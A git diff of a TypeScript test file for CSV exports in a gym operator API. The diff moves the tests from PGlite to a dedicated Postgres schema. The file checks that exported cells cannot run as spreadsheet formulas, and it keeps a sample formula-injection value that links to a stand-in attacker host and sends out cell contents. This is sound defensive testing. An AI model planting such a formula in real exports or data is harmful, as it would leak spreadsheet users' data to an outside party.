@@ -1,5 +1,5 @@
 /**
- * CSV exports of check-ins and the ledger (PGlite, Hono's app.request): a
+ * CSV exports of check-ins and the ledger (Postgres, Hono's app.request): a
  * header and every row once across the stream's batches, cells a spreadsheet
  * will not run as formulas, amounts as integer minor units with currency,
  * who may export what, and site scoping.
@@ -13,11 +13,10 @@ import { createApi } from "../src/api/app.ts";
 import { mintOperatorToken, type OperatorEnv, type Role } from "../src/api/auth.ts";
 import { exportRoutes, spreadsheetSafe } from "../src/api/exports.ts";
 import type { Database } from "../src/db/database.ts";
-import { migrate } from "../src/db/migrate.ts";
-import { openPglite } from "../src/db/pglite.ts";
 import { operatorRequestKey, post } from "../src/ledger/ledger.ts";
 import { MemoryPresence } from "../src/presence/memory-presence.ts";
 import { seedSite } from "../src/seed.ts";
+import { openTestSchema } from "./console-db.ts";
 
 const SECRET = "a-test-secret-of-at-least-32-characters!";
 const DAY = new Date("2026-12-01T00:00:00Z");
@@ -25,13 +24,16 @@ const at = (minutes: number) => new Date(DAY.getTime() + minutes * 60_000);
 const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
 let db: Database;
+let drop: () => Promise<void>;
 let app: ReturnType<typeof createApi>;
 /** The export routes alone with 4-row batches, so a few rows cross many batch edges. */
 const small = new Hono<OperatorEnv>();
 
 test.before(async () => {
-  db = await openPglite();
-  await migrate(db);
+  // A Postgres schema of its own: PGlite's open alone takes ten seconds and more on a busy machine.
+  const schema = await openTestSchema("exports");
+  db = schema.db;
+  drop = schema.drop;
   await seedSite(db, { id: "s1", name: "Harbour Gym", timezone: "UTC" });
   await seedSite(db, { id: "s2", name: "Hill Pool", timezone: "UTC" });
   await db.query(
@@ -100,7 +102,7 @@ test.before(async () => {
   small.route("/", exportRoutes({ db, tokens: { secret: SECRET }, batchRows: 4 }));
 });
 test.after(async () => {
-  await db.close();
+  await drop();
 });
 
 const bearer = async (role: Role, sites?: string[]) =>
